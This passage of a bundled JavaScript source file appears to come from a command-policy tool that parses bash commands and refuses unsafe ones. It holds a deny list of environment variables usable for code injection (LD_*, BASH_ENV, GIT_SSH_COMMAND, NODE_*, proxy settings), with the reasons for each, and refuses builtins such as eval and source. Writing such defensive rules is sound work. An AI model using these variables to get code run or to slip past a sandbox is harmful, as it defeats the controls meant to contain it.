import { createRequire as __stewardCreateRequire } from 'node:module'; const require = __stewardCreateRequire(import.meta.url);
import {
  bashParser
} from "./chunk-Q4J23LK5.js";
import {
  DOT_SEGMENT,
  escapeLiteral,
  lookupTable
} from "./chunk-NYG7QIXA.js";
import "./chunk-SXXHESJR.js";

// src/policy/shell/denial.ts
var ShellDenial = class extends Error {
  constructor(reason) {
    super(reason);
    this.name = "ShellDenial";
  }
};
function deny(reason) {
  throw new ShellDenial(reason);
}
function excerpt(text2, max = 60) {
  const flat = text2.replace(/\s+/g, " ").trim();
  return flat.length <= max ? flat : `${flat.slice(0, max - 1)}…`;
}
function code(text2, max = 40) {
  const short = excerpt(text2, max);
  return short.includes("`") ? `"${short}"` : `\`${short}\``;
}

// src/policy/shell/env-names.ts
var HARMLESS = /* @__PURE__ */ new Set([
  "LANG",
  "LANGUAGE",
  "TZ",
  "CI",
  "NO_COLOR",
  "FORCE_COLOR",
  "CLICOLOR",
  "CLICOLOR_FORCE",
  "COLORTERM",
  "TERM",
  "COLUMNS",
  "LINES",
  "NODE_ENV",
  "RUST_BACKTRACE",
  "SOURCE_DATE_EPOCH"
]);
var HARMLESS_VALUE = /^[A-Za-z0-9_.,:@+= -]*$/;
var DANGEROUS = [
  {
    test: /^(?:LD_|DYLD_)/,
    why: "the dynamic loader reads it to load other shared libraries into every program"
  },
  { test: /^(?:PATH|CDPATH|EXECIGNORE)$/, why: "the shell uses it to find programs and directories" },
  {
    test: /^(?:BASH_ENV|ENV|SHELLOPTS|BASHOPTS|PS[0-4]|PROMPT_COMMAND|BASH_XTRACEFD|GLOBIGNORE|INPUTRC|HISTFILE|BASH_LOADABLES_PATH)$/,
    why: "the shell reads it for code to run or for how to read commands"
  },
  { test: /^IFS$/, why: "the shell splits words with it" },
  {
    test: /^GIT_/,
    why: "git reads GIT_* variables for programs to run (GIT_PAGER, GIT_SSH_COMMAND, GIT_EXTERNAL_DIFF) and for the repository and configuration to use"
  },
  { test: /^NODE_/, why: "Node.js reads NODE_* variables for code to preload and modules to load" },
  {
    test: /^(?:npm_config_|yarn_|pnpm_|bun_)/i,
    why: "package managers read these as configuration, including scripts and programs to run"
  },
  { test: /^PYTHON/, why: "Python reads PYTHON* variables for code to run at start-up and modules to load" },
  { test: /^(?:PERL5|PERLLIB|PERL_)/, why: "Perl reads these for modules and options to load" },
  { test: /^(?:RUBY|GEM_|BUNDLE_)/, why: "Ruby reads these for code to load and gems to use" },
  {
    test: /^(?:JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|CLASSPATH|MAVEN_OPTS|GRADLE_OPTS)$/,
    why: "the JVM reads these for agents and classes to load"
  },
  {
    test: /^(?:LESSOPEN|LESSCLOSE|LESS|LESSKEY|PAGER|MANPAGER|MANOPT|EDITOR|VISUAL|BROWSER|SHELL|TERMINFO|TERMINFO_DIRS)$/,
    why: "programs read it for another program to run (a pager, editor, browser or shell) or a file to load"
  },
  {
    test: /^(?:HOME|TMPDIR|TMP|TEMP|XDG_[A-Z_]+)$/,
    why: "programs read their configuration and write their files where it says"
  },
  {
    test: /^(?:LOCPATH|NLSPATH|GCONV_PATH|GLIBC_TUNABLES|MALLOC_[A-Z_]+|OPENSSL_CONF|SSL_CERT_FILE|SSL_CERT_DIR)$/,
    why: "the C library or OpenSSL loads other files named by it"
  },
  {
    test: /^(?:https?_proxy|all_proxy|no_proxy|ftp_proxy)$/i,
    why: "network clients send their traffic through the host it names"
  },
  {
    test: /^(?:CARGO_|RUSTC|RUSTFLAGS|RUSTDOC|GO[A-Z]*$|CC$|CXX$|CPP$|LD$|CFLAGS|CXXFLAGS|LDFLAGS|MAKEFLAGS|MAKE$)/,
    why: "build tools read it for programs and flags to run"
  }
];
var HARMLESS_LIST = "LANG, LANGUAGE, LC_*, TZ, CI, NO_COLOR, FORCE_COLOR, CLICOLOR, CLICOLOR_FORCE, COLORTERM, TERM, COLUMNS, LINES, NODE_ENV, RUST_BACKTRACE, SOURCE_DATE_EPOCH";
function isHarmlessName(name) {
  return HARMLESS.has(name) || /^LC_[A-Z]+$/.test(name);
}
var SHELL_LOCAL = /^[a-z][a-z0-9_]{0,63}$/;
var BASH_READS = /* @__PURE__ */ new Set(["auto_resume", "histchars"]);
function checkAssignment(name, value, how, assignment) {
  if (assignment.bound?.has(name) === true)
    deny(
      `${how} ${name}, the variable of the loop around it, whose values the loop's body was judged with; use another name`
    );
  const dangerous = DANGEROUS.find((entry) => entry.test.test(name));
  if (dangerous !== void 0)
    deny(`${how} ${name}, which is not accepted: ${dangerous.why}; run the command without it`);
  if (!assignment.exported && SHELL_LOCAL.test(name) && !BASH_READS.has(name)) return;
  if (!isHarmlessName(name))
    deny(
      `${how} ${name}: only these variables may be set in a command: ${HARMLESS_LIST}${assignment.exported ? "" : ", and lowercase shell variables"}; run the command without ${name}`
    );
  if (assignment.valueUnknown === true)
    deny(`${how} ${name} to a value only known when the command runs; set it to a literal value`);
  if (value !== void 0 && !HARMLESS_VALUE.test(value) && !(name === "TZ" && /^[A-Za-z0-9_+-]+(?:\/[A-Za-z0-9_+-]+)*$/.test(value)))
    deny(`${how} ${name}: the value ${JSON.stringify(value)} is not a plain name or number`);
}
function checkVariable(name, value, how) {
  checkAssignment(name, value, how, { exported: true });
}

// src/policy/shell/limits.ts
var MAX_COMMAND_LENGTH = 1e4;
var MAX_SIMPLE_COMMANDS = 100;
var MAX_NESTING = 20;
var MAX_TREE_DEPTH = 400;
var MAX_LOOP_VALUES = 50;
var MAX_WORKING_DIRECTORIES = 8;

// src/policy/shell/tree.ts
function near(source, index) {
  return excerpt(source.slice(Math.max(0, index - 20), index + 40), 60);
}
var TYPES_WITH_FIELDS = /* @__PURE__ */ new Set([
  "binary_expression",
  "c_style_for_statement",
  "case_item",
  "case_statement",
  "command",
  "command_substitution",
  "expansion",
  "file_redirect",
  "for_statement",
  "function_definition",
  "heredoc_redirect",
  "herestring_redirect",
  "if_statement",
  "postfix_expression",
  "redirected_statement",
  "subscript",
  "ternary_expression",
  "unary_expression",
  "variable_assignment",
  "while_statement"
]);
var LEAF_TYPES = /* @__PURE__ */ new Set([
  "ansi_c_string",
  "comment",
  "extglob_pattern",
  "file_descriptor",
  "heredoc_content",
  "heredoc_end",
  "heredoc_start",
  "raw_string",
  "regex",
  "special_variable_name",
  "string_content",
  "test_operator",
  "variable_name",
  "word"
]);
var nodeTypes = /* @__PURE__ */ new WeakMap();
function nodeTypeInfo(language) {
  let infos = nodeTypes.get(language);
  if (infos === void 0) {
    const all = [];
    for (let typeId = 0; typeId < language.types.length; typeId++) {
      const type = language.types[typeId] ?? "ERROR";
      const named = language.nodeTypeIsNamed(typeId);
      all.push({
        type,
        named,
        hasFields: TYPES_WITH_FIELDS.has(type),
        leaf: !named || LEAF_TYPES.has(type)
      });
    }
    nodeTypes.set(language, infos = all);
  }
  return infos;
}
var UNKNOWN_TYPE = { type: "ERROR", named: true, hasFields: false, leaf: false };
var NOT_LITERAL_IN_STRING = /[$`\\\x00-\x08\x0a-\x1f\x7f]/;
function isLiteralString(node) {
  return node.type === "string" && !NOT_LITERAL_IN_STRING.test(node.text);
}
function newNode(info, field, start, end, source) {
  return {
    type: info.type,
    field,
    named: info.named,
    start,
    end,
    text: source.slice(start, end),
    children: []
  };
}
function fieldName(language, cursor) {
  return language.fields[cursor.currentFieldId] ?? null;
}
function copyTree(tree, source) {
  if (tree.rootNode.hasError) deny(`the command does not parse as bash (${describeError(tree, source)})`);
  const language = tree.language;
  const infos = nodeTypeInfo(language);
  const cursor = tree.walk();
  try {
    const rootInfo = infos[cursor.nodeTypeId] ?? UNKNOWN_TYPE;
    const root = newNode(rootInfo, null, cursor.startIndex, cursor.endIndex, source);
    const stack = [root];
    const withFields = [rootInfo.hasFields];
    let commands = 0;
    let current = root;
    let currentLeaf = rootInfo.leaf;
    for (; ; ) {
      if (!currentLeaf && !isLiteralString(current) && cursor.gotoFirstChild()) {
        if (stack.length > MAX_TREE_DEPTH)
          deny(`the command is nested too deeply to analyse (more than ${MAX_TREE_DEPTH} levels)`);
      } else {
        while (!cursor.gotoNextSibling()) {
          if (!cursor.gotoParent()) return root;
          stack.pop();
          withFields.pop();
        }
        stack.pop();
        withFields.pop();
      }
      const info = infos[cursor.nodeTypeId] ?? UNKNOWN_TYPE;
      const start = cursor.startIndex;
      const end = cursor.endIndex;
      const field = withFields[withFields.length - 1] === true ? fieldName(language, cursor) : null;
      const node = newNode(info, field, start, end, source);
      if (node.type === "ERROR")
        deny(`the command does not parse as bash (syntax error near \`${near(source, node.start)}\`)`);
      if (node.type === "command" || node.type === "test_command") {
        if (++commands > MAX_SIMPLE_COMMANDS)
          deny(
            `the command holds more than ${MAX_SIMPLE_COMMANDS} simple commands; split it into several calls`
          );
      }
      stack[stack.length - 1].children.push(node);
      stack.push(node);
      withFields.push(info.hasFields);
      current = node;
      currentLeaf = info.leaf;
    }
  } finally {
    cursor.delete();
  }
}
function describeError(tree, source) {
  const cursor = tree.walk();
  try {
    for (; ; ) {
      if (cursor.nodeType === "ERROR") return `syntax error near \`${near(source, cursor.startIndex)}\``;
      if (cursor.nodeIsMissing)
        return `missing ${JSON.stringify(cursor.nodeType)} near \`${near(source, cursor.startIndex)}\``;
      if (cursor.gotoFirstChild()) continue;
      while (!cursor.gotoNextSibling()) if (!cursor.gotoParent()) return `near \`${near(source, 0)}\``;
    }
  } finally {
    cursor.delete();
  }
}
function childByField(node, field) {
  return node.children.find((child) => child.field === field);
}
function childrenByField(node, field) {
  return node.children.filter((child) => child.field === field);
}

// src/policy/shell/words.ts
var UNQUOTED_SPECIAL = /* @__PURE__ */ new Set([" ", "	", "\n", ";", "&", "|", "<", ">", "(", ")", "`", "$", "'", '"']);
var GLOB_CHARS = /* @__PURE__ */ new Set(["*", "?", "["]);
function expansionReason(node) {
  const text2 = code(node.text);
  switch (node.type) {
    case "simple_expansion":
    case "expansion":
      return `${text2} expands a variable whose value is not known before the command runs; write the value literally`;
    case "command_substitution":
      return `${text2} runs a command and pastes its output into this one, which cannot be judged beforehand; run the inner command on its own first`;
    case "arithmetic_expansion":
      return `${text2} is an arithmetic expansion, which can assign variables and run commands; write the number literally`;
    case "brace_expression":
      return `${text2} is a brace expansion; write each word out`;
    case "process_substitution":
      return `${text2} (process substitution) is only accepted as a whole argument, not inside a word`;
    case "translated_string":
    case "$":
      return `${text2} ($"…" or a bare $) is not accepted; use single quotes for literal text`;
    default:
      return `${text2} (${node.type}) is not a construct this analysis understands, so the command is refused`;
  }
}
function unquotedChars(text2, out) {
  for (let i = 0; i < text2.length; i++) {
    const c = text2[i];
    if (c === "\\") {
      const next = text2[i + 1];
      if (next === void 0) deny(`a word ends with a lone backslash (${code(text2, 40)})`);
      i++;
      if (next !== "\n") out.push({ c: next, quoted: true });
      continue;
    }
    if (UNQUOTED_SPECIAL.has(c))
      deny(`could not analyse the word ${code(text2, 40)} (unexpected ${JSON.stringify(c)})`);
    out.push({ c, quoted: false });
  }
}
function doubleQuotedChars(inner, out) {
  for (let i = 0; i < inner.length; i++) {
    const c = inner[i];
    if (c === "\\") {
      const next = inner[i + 1];
      if (next !== void 0 && '$`"\\\n'.includes(next)) {
        i++;
        if (next !== "\n") out.push({ c: next, quoted: true });
        continue;
      }
    } else if (c === "$" || c === "`") {
      deny(`could not analyse the string "${excerpt(inner, 40)}": it contains an unescaped ${c}`);
    }
    out.push({ c, quoted: true });
  }
}
var SIMPLE_ESCAPES = {
  a: "\x07",
  b: "\b",
  e: "\x1B",
  E: "\x1B",
  f: "\f",
  n: "\n",
  r: "\r",
  t: "	",
  v: "\v",
  "\\": "\\",
  "'": "'",
  '"': '"',
  "?": "?"
};
function decodeAnsiC(body) {
  let out = "";
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (c !== "\\") {
      out += c;
      continue;
    }
    const next = body[i + 1];
    if (next === void 0) {
      out += "\\";
      continue;
    }
    const simple = SIMPLE_ESCAPES[next];
    if (simple !== void 0) {
      out += simple;
      i++;
      continue;
    }
    const numeric = /^(?:([0-7]{1,3})|x([0-9A-Fa-f]{1,2}))/.exec(body.slice(i + 1));
    if (numeric !== null) {
      const [all, octal, hex] = numeric;
      const code2 = octal !== void 0 ? parseInt(octal, 8) : parseInt(hex, 16);
      if (code2 === 0 || code2 > 127)
        deny(`$'${excerpt(body, 30)}' contains a NUL or non-ASCII byte escape; write the character itself`);
      out += String.fromCharCode(code2);
      i += all.length;
      continue;
    }
    if (next === "u" || next === "U")
      deny(
        `$'${excerpt(body, 30)}' uses a \\u escape, whose value depends on the locale; write the character itself`
      );
    if (next === "c") deny(`$'${excerpt(body, 30)}' uses a \\c control escape, which is not accepted`);
    out += `\\${next}`;
    i++;
  }
  return out;
}
function closingQuote(body, quote) {
  for (let i = 0; i < body.length; i++) {
    if (body[i] === "\\") i++;
    else if (body[i] === quote) return i;
  }
  return -1;
}
function boundVariable(node, bindings) {
  const names = node.children.filter((child) => child.type === "variable_name");
  const tokens2 = node.children.map((child) => child.type).join(" ");
  const plain2 = node.type === "simple_expansion" && tokens2 === "$ variable_name" || node.type === "expansion" && tokens2 === "${ variable_name }";
  const name = names[0]?.text ?? "";
  const binding = plain2 ? bindings?.get(name) : void 0;
  if (binding === void 0) deny(expansionReason(node));
  return { name, binding };
}
function pushBound(node, bindings, quoted, out) {
  const { name, binding } = boundVariable(node, bindings);
  if (binding.kind === "glob")
    deny(
      `${code(node.text)} holds one match of ${code(binding.value)} at a time; inside a word it cannot be judged, so use it as a whole word ("$${name}")`
    );
  const value = binding.value;
  if (!quoted && (value === "" || /[\s\\]/.test(value)))
    deny(
      `the loop variable ${name} holds ${JSON.stringify(value)}, which bash would split or drop where ${code(node.text)} is unquoted; quote it ("$${name}")`
    );
  for (const c of value) out.push(quoted ? { c, quoted: true } : { c, quoted: false, expanded: true });
}
function collectChars(node, out, bindings) {
  const before = out.length;
  collectQuoted(node, out, bindings);
  if (out.length === before && node.type !== "word" && node.type !== "concatenation")
    out.push({ c: "", quoted: true });
}
function collectQuoted(node, out, bindings) {
  switch (node.type) {
    case "simple_expansion":
    case "expansion":
      pushBound(node, bindings, false, out);
      return;
    case "word":
    case "extglob_pattern":
      unquotedChars(node.text, out);
      return;
    case "number":
      if (node.children.length > 0) deny(expansionReason(node.children[0] ?? node));
      unquotedChars(node.text, out);
      return;
    case "raw_string": {
      const text2 = node.text;
      if (text2.length < 2 || !text2.startsWith("'") || !text2.endsWith("'") || text2.slice(1, -1).includes("'"))
        deny(`could not analyse the string ${excerpt(text2, 40)}`);
      for (const c of text2.slice(1, -1)) out.push({ c, quoted: true });
      return;
    }
    case "ansi_c_string": {
      const text2 = node.text;
      if (text2.length < 3 || !text2.startsWith("$'") || closingQuote(text2.slice(2), "'") !== text2.length - 3)
        deny(`could not analyse the string ${excerpt(text2, 40)}`);
      for (const c of decodeAnsiC(text2.slice(2, -1))) out.push({ c, quoted: true });
      return;
    }
    case "string": {
      const text2 = node.text;
      if (text2.length < 2 || !text2.startsWith('"') || closingQuote(text2.slice(1), '"') !== text2.length - 2)
        deny(`could not analyse the string ${excerpt(text2, 40)}`);
      let at = 1;
      for (const child of node.children) {
        if (child.type === "string_content" || child.type === '"') continue;
        if (child.type !== "simple_expansion" && child.type !== "expansion") deny(expansionReason(child));
        doubleQuotedChars(text2.slice(at, child.start - node.start), out);
        pushBound(child, bindings, true, out);
        at = child.end - node.start;
      }
      doubleQuotedChars(text2.slice(at, -1), out);
      return;
    }
    case "concatenation":
      for (const child of node.children) {
        if (child.type === "process_substitution") deny(expansionReason(child));
        collectChars(child, out, bindings);
      }
      return;
    case "==":
    case "=~":
    case "=":
    case "!=":
      for (const c of node.type) out.push({ c, quoted: false });
      return;
    default:
      deny(expansionReason(node));
  }
}
var literal = (ch) => ch.quoted || ch.expanded === true;
function isNameStart(c) {
  return /[A-Za-z_]/.test(c);
}
function assignmentPrefixEnd(chars) {
  const first = chars[0];
  if (first === void 0 || literal(first) || !isNameStart(first.c)) return -1;
  for (let i = 1; i < chars.length; i++) {
    const ch = chars[i];
    if (literal(ch)) return -1;
    if (ch.c === "=") return i + 1;
    if (!/[A-Za-z0-9_]/.test(ch.c)) return -1;
  }
  return -1;
}
function expandTildeAt(chars, start, home, stopAtColon) {
  const first = chars[start];
  if (first === void 0 || literal(first) || first.c !== "~") return;
  let end = start + 1;
  while (end < chars.length) {
    const ch = chars[end];
    if (!literal(ch) && (ch.c === "/" || stopAtColon && ch.c === ":")) break;
    end++;
  }
  const prefix = chars.slice(start, end);
  if (prefix.some(literal)) return;
  if (prefix.length > 1) {
    const text2 = prefix.map((ch) => ch.c).join("");
    deny(`\`${text2}\` is a tilde expansion whose value is not known here; write the directory literally`);
  }
  chars.splice(start, 1, ...[...home].map((c) => ({ c, quoted: true })));
}
function expandTildes(chars, home, assignmentValue) {
  if (assignmentValue) {
    const starts = [0];
    chars.forEach((ch, i) => {
      if (!literal(ch) && ch.c === ":") starts.push(i + 1);
    });
    for (const start of starts.reverse()) expandTildeAt(chars, start, home, true);
    return;
  }
  const assignment = assignmentPrefixEnd(chars);
  if (assignment > 0) {
    const value = chars.slice(assignment);
    expandTildes(value, home, true);
    chars.splice(assignment, chars.length - assignment, ...value);
  }
  expandTildeAt(chars, 0, home, false);
}
function checkNoBraceExpansion(chars, original) {
  let open = false;
  let separator = false;
  for (let i = 0; i < chars.length; i++) {
    const ch = chars[i];
    if (literal(ch)) continue;
    const after = chars[i + 1];
    if (ch.c === "{") open = true;
    else if (open && (ch.c === "," || ch.c === "." && after?.c === "." && !literal(after)))
      separator = true;
    else if (separator && ch.c === "}")
      deny(
        `${code(original, 40)} contains a brace expansion, which turns one word into several; write each word out`
      );
  }
}
var PATTERN_SPECIAL = /* @__PURE__ */ new Set(["\\", "*", "?", "[", "]", "!", "^", "-"]);
function patternOf(chars) {
  return chars.map((ch) => ch.quoted && PATTERN_SPECIAL.has(ch.c) ? `\\${ch.c}` : ch.c).join("");
}
function toWord(chars, original, options) {
  expandTildes(chars, options.home, options.assignmentValue === true);
  const quoted = chars.some((ch) => ch.quoted);
  const value = chars.map((ch) => ch.c).join("");
  if (options.assignmentValue === true)
    return { value, glob: false, optionLikeGlob: false, quoted, processSubstitution: false };
  checkNoBraceExpansion(chars, original);
  const firstGlob = chars.findIndex((ch) => !ch.quoted && GLOB_CHARS.has(ch.c));
  if (firstGlob < 0) return { value, glob: false, optionLikeGlob: false, quoted, processSubstitution: false };
  const fixedPrefix2 = chars.slice(0, firstGlob).map((ch) => ch.c).join("");
  const optionLikeGlob = fixedPrefix2 === "" || fixedPrefix2.startsWith("-");
  return { value, glob: true, optionLikeGlob, quoted, processSubstitution: false, pattern: patternOf(chars) };
}
function loopGlobWord(node, options) {
  if (options.bindings === void 0 || options.bindings.size === 0) return void 0;
  const quoted = node.type === "string";
  const inner = quoted ? node.children.filter((child) => child.type !== '"') : [node];
  const only = inner[0];
  if (inner.length !== 1 || only === void 0) return void 0;
  if (only.type !== "simple_expansion" && only.type !== "expansion") return void 0;
  if (quoted && node.text !== `"${only.text}"`) return void 0;
  const { name, binding } = boundVariable(only, options.bindings);
  if (binding.kind !== "glob") return void 0;
  if (options.assignmentValue === true)
    deny(
      `${code(node.text)} holds one match of ${code(binding.value)} at a time, which is only known when the command runs`
    );
  if (!quoted && (/[\s\\]/.test(binding.value) || binding.pattern.includes("\\")))
    deny(
      `the loop variable ${name} holds matches of ${code(binding.value)}, which bash would split at its blanks where ${code(node.text)} is unquoted; quote it ("$${name}")`
    );
  return {
    value: binding.value,
    glob: true,
    optionLikeGlob: binding.optionLike,
    quoted,
    processSubstitution: false,
    pattern: binding.pattern,
    loopGlob: true,
    ...quoted ? {} : { resplit: true }
  };
}
function evaluateWord(node, options) {
  return literalWord(node) ?? evaluateWordByCharacters(node, options);
}
function evaluateWordByCharacters(node, options) {
  const loop = loopGlobWord(node, options);
  if (loop !== void 0) return loop;
  const chars = [];
  collectChars(node, chars, options.bindings);
  return toWord(chars, node.text, options);
}
var PLAIN_UNQUOTED = /^[A-Za-z0-9_@%+=:,./-]*$/;
var PLAIN_DOUBLE_QUOTED = /^[^"\\$`]*$/;
function literalWord(node) {
  const text2 = node.text;
  switch (node.type) {
    case "word":
      if (!PLAIN_UNQUOTED.test(text2)) return void 0;
      return { value: text2, glob: false, optionLikeGlob: false, quoted: false, processSubstitution: false };
    case "raw_string": {
      if (text2.length < 2 || !text2.startsWith("'") || !text2.endsWith("'")) return void 0;
      const inner = text2.slice(1, -1);
      if (inner.includes("'")) return void 0;
      return { value: inner, glob: false, optionLikeGlob: false, quoted: true, processSubstitution: false };
    }
    case "string": {
      for (const child of node.children)
        if (child.type !== "string_content" && child.type !== '"') return void 0;
      if (text2.length < 2 || !text2.startsWith('"') || !text2.endsWith('"')) return void 0;
      const inner = text2.slice(1, -1);
      if (!PLAIN_DOUBLE_QUOTED.test(inner)) return void 0;
      return { value: inner, glob: false, optionLikeGlob: false, quoted: true, processSubstitution: false };
    }
    default:
      return void 0;
  }
}
function evaluateRegex(node) {
  const text2 = node.text;
  if (/`|\$[^)|]/.test(text2) || text2.includes("\\\n"))
    deny(`the regular expression ${code(text2, 40)} contains an expansion`);
  return { value: text2, glob: false, optionLikeGlob: false, quoted: false, processSubstitution: false };
}

// src/policy/shell/assignments.ts
function readAssignment(node, home, bound) {
  const name = childByField(node, "name");
  if (name?.type !== "variable_name")
    deny(`${code(node.text, 40)} assigns to an array element, whose subscript bash evaluates as arithmetic`);
  const value = childByField(node, "value");
  for (const child of node.children) {
    if (child === name || child === value) continue;
    if (child.type !== "=" && child.type !== "+=")
      deny(`could not analyse the assignment ${code(node.text, 40)}`);
  }
  if (value === void 0) return { name: name.text, value: "" };
  if (value.type === "array") deny(`${code(node.text, 40)} assigns an array; only plain values are accepted`);
  const options = { home, assignmentValue: true, ...bound === void 0 ? {} : { bindings: bound } };
  return { name: name.text, value: evaluateWord(value, options).value };
}
function checkStatementAssignment(node, home, bound) {
  const { name, value } = readAssignment(node, home, bound);
  checkAssignment(name, value, "the assignment sets", { exported: false, bound });
}
function checkDeclaration(node, home, bound) {
  const keyword = node.children[0]?.type ?? "declare";
  const assignment = { exported: keyword === "export", bound };
  let names = 0;
  for (const child of node.children.slice(1)) {
    if (child.type === "variable_assignment") {
      const { name, value } = readAssignment(child, home, bound);
      checkAssignment(name, value, `\`${keyword}\` sets`, assignment);
    } else if (child.type === "variable_name") {
      checkAssignment(child.text, void 0, `\`${keyword}\` changes`, assignment);
    } else if (child.type === "word" && !/^[-+]/.test(child.text)) {
      checkAssignment(child.text, void 0, `\`${keyword}\` changes`, assignment);
    } else if (child.type === "word") {
      deny(
        `\`${keyword} ${child.text}\` is not accepted: options of ${keyword} can rename variables, export functions or change attributes`
      );
    } else deny(`could not analyse ${code(node.text, 40)}`);
    names++;
  }
  if (names === 0)
    deny(`\`${keyword}\` without arguments prints every variable; print what you need instead`);
}
function checkUnset(node, bound) {
  let names = 0;
  for (const child of node.children.slice(1)) {
    if ((child.type === "variable_name" || child.type === "word") && !child.text.startsWith("-"))
      checkAssignment(child.text, void 0, "`unset` removes", { exported: false, bound });
    else deny(`\`unset ${child.text}\` is not accepted; unset plain variable names only`);
    names++;
  }
  if (names === 0) deny("`unset` needs a name");
}
function builtinOptions(name, args, spec) {
  const options = [];
  let i = 0;
  for (; i < args.length; i++) {
    const token = args[i].value;
    if (token === "--") {
      i++;
      break;
    }
    if (!token.startsWith("-") || token === "-") break;
    for (let at = 1; at < token.length; at++) {
      const letter = token[at];
      if (spec.withValue.includes(letter)) {
        const value = at + 1 < token.length ? token.slice(at + 1) : args[++i]?.value;
        if (value === void 0) deny(`\`${name} -${letter}\` needs a value`);
        options.push([letter, value]);
        break;
      }
      if (!spec.flags.includes(letter))
        deny(`\`${name} -${letter}\` is not an option this analysis accepts for ${name}`);
      options.push([letter, ""]);
    }
  }
  return { options, operands: args.slice(i) };
}
function checkRead(args, bound) {
  const { options, operands } = builtinOptions("read", args, { withValue: "adinNptu", flags: "rs" });
  const names = [...options.filter(([letter]) => letter === "a").map(([, value]) => value)];
  names.push(...operands.map((word) => word.value));
  for (const name of names)
    checkAssignment(name, void 0, "`read` sets", { exported: false, bound, valueUnknown: true });
}
function checkWait(args, bound) {
  const { options } = builtinOptions("wait", args, { withValue: "p", flags: "fn" });
  for (const [letter, value] of options)
    if (letter === "p")
      checkAssignment(value, void 0, "`wait -p` sets", { exported: false, bound, valueUnknown: true });
}

// src/policy/shell/paths.ts
import { posix } from "node:path";
var HARMLESS_DEVICES = /* @__PURE__ */ new Set(["/dev/null", "/dev/stdin", "/dev/stdout", "/dev/stderr"]);
var CLIMBS = /(^|\/)\.\.(\/|$)/;
function isNormal(path) {
  return !path.endsWith("/") && !path.includes("//") && !DOT_SEGMENT.test(path);
}
function resolveIn(cwd, value) {
  if (value !== "" && isNormal(value) && (cwd === "/" || cwd.startsWith("/") && isNormal(cwd)))
    return cwd === "/" ? `/${value}` : `${cwd}/${value}`;
  return posix.resolve(cwd, value);
}
function writtenIn(cwd, value) {
  if (posix.isAbsolute(value)) return value;
  return cwd === "/" ? `/${value}` : `${cwd}/${value}`;
}
function placesOf(value, cwds) {
  const places = [];
  for (const cwd of posix.isAbsolute(value) ? ["/"] : cwds) {
    const path = posix.isAbsolute(value) ? posix.resolve(value) : resolveIn(cwd, value);
    const written = writtenIn(cwd, value);
    places.push(CLIMBS.test(written) && written !== path ? { path, written } : { path });
  }
  return places;
}
function directoryCandidates(value, cwds) {
  return [...new Set(placesOf(value, cwds).flatMap((place) => [place.path, place.written ?? place.path]))];
}
function patternFor(value, word) {
  const pattern = word?.pattern;
  if (word === void 0 || pattern === void 0 || !word.value.endsWith(value)) return value;
  let at = 0;
  for (let skip = word.value.length - value.length; skip > 0 && at < pattern.length; skip--)
    at += pattern[at] === "\\" ? 2 : 1;
  return pattern.slice(at);
}
var ROOT = ["/"];
var climbs = (path) => path.includes("..") && CLIMBS.test(path);
function pathUses(kind, value, source, ctx, glob = false) {
  if (value === "-") return [];
  const word = typeof glob === "boolean" ? void 0 : glob;
  const isGlob = word === void 0 ? glob === true : word.glob;
  const absolute = posix.isAbsolute(value);
  const cwds = absolute ? ROOT : ctx.cwds;
  const uses = [];
  for (const cwd of cwds) {
    const path = absolute ? posix.resolve(value) : resolveIn(cwd, value);
    if (HARMLESS_DEVICES.has(path)) continue;
    const use = { kind, path, source };
    if (climbs(value) || !absolute && climbs(cwd)) {
      const written = writtenIn(cwd, value);
      if (written !== path) use.written = written;
    }
    if (isGlob) {
      const pattern = patternFor(value, word);
      use.glob = true;
      use.pattern = absolute ? pattern : `${escapeLiteral(cwd === "/" ? "" : cwd)}/${pattern}`;
      if (word?.resplit === true) use.resplit = true;
    }
    const key = use.written ?? use.path;
    if (cwds.length > 1 && uses.some((other) => (other.written ?? other.path) === key)) continue;
    uses.push(use);
  }
  return uses;
}
function operandPaths(kind, word, ctx) {
  if (word.processSubstitution) return [];
  return pathUses(kind, word.value, "operand", ctx, word);
}

// src/policy/shell/builtins.ts
var REFUSED = lookupTable({
  eval: "runs its arguments as a new command line, which cannot be judged beforehand; run the command directly",
  source: "runs the commands in a file, which are not analysed",
  ".": "runs the commands in a file, which are not analysed",
  alias: "defines an alias, which changes what later commands mean",
  unalias: "changes what later commands mean",
  trap: "stores a command to run later (on a signal or at exit), which cannot be judged now",
  history: "reads or rewrites the shell history",
  fc: "re-runs commands from the history or opens an editor",
  enable: "loads or switches shell builtins",
  hash: "changes which program a name runs",
  shopt: "changes how the shell parses and expands later commands",
  let: "evaluates arithmetic, which can assign variables and run commands",
  readarray: "assigns shell variables from its input, which this analysis does not follow",
  mapfile: "assigns shell variables from its input, which this analysis does not follow",
  getopts: "assigns shell variables, which this analysis does not follow",
  pushd: "changes the working directory in a way this analysis does not follow; use cd",
  popd: "changes the working directory in a way this analysis does not follow; use cd",
  coproc: "starts a coprocess, which this analysis does not follow",
  bind: "changes key bindings and can run commands",
  complete: "defines completions, which can run commands",
  compgen: "expands words (running command substitutions in them)",
  compopt: "changes completion settings",
  declare: "is only accepted as a plain statement (`declare NAME=value` with a harmless NAME)",
  typeset: "is only accepted as a plain statement (`typeset NAME=value` with a harmless NAME)",
  export: "is only accepted as a plain statement (`export NAME=value` with a harmless NAME)",
  readonly: "is only accepted as a plain statement (`readonly NAME=value` with a harmless NAME)",
  local: "is only accepted as a plain statement (`local NAME=value` with a harmless NAME)",
  unset: "is only accepted as a plain statement (`unset NAME` with a harmless NAME)",
  function: "defines a function; run the commands directly",
  select: "reads a choice from its input, which this analysis does not follow"
});
var RESERVED = /* @__PURE__ */ new Set([
  "if",
  "then",
  "else",
  "elif",
  "fi",
  "do",
  "done",
  "case",
  "esac",
  "while",
  "until",
  "for",
  "in",
  "{",
  "}",
  "!",
  "[[",
  "]]"
]);
var CONTROL_FLOW = /* @__PURE__ */ new Set(["exit", "return", "break", "continue", "shift"]);
var SET_LETTERS = "euxvfET";
var SET_O = /* @__PURE__ */ new Set([
  "errexit",
  "nounset",
  "pipefail",
  "xtrace",
  "verbose",
  "noglob",
  "errtrace",
  "functrace"
]);
function checkBuiltin(argv, bound) {
  const name = argv[0].value;
  const refused = REFUSED[name];
  if (refused !== void 0) deny(`\`${name}\` ${refused}`);
  if (RESERVED.has(name))
    deny(
      `\`${name}\` is a shell reserved word in a place where bash would not read it as one; the command could not be analysed`
    );
  if (CONTROL_FLOW.has(name)) return "silent";
  if (name === "read") {
    checkRead(argv.slice(1), bound);
    return "silent";
  }
  if (name === "wait") {
    checkWait(argv.slice(1), bound);
    return "silent";
  }
  if (name === "set") {
    if (argv.length === 1)
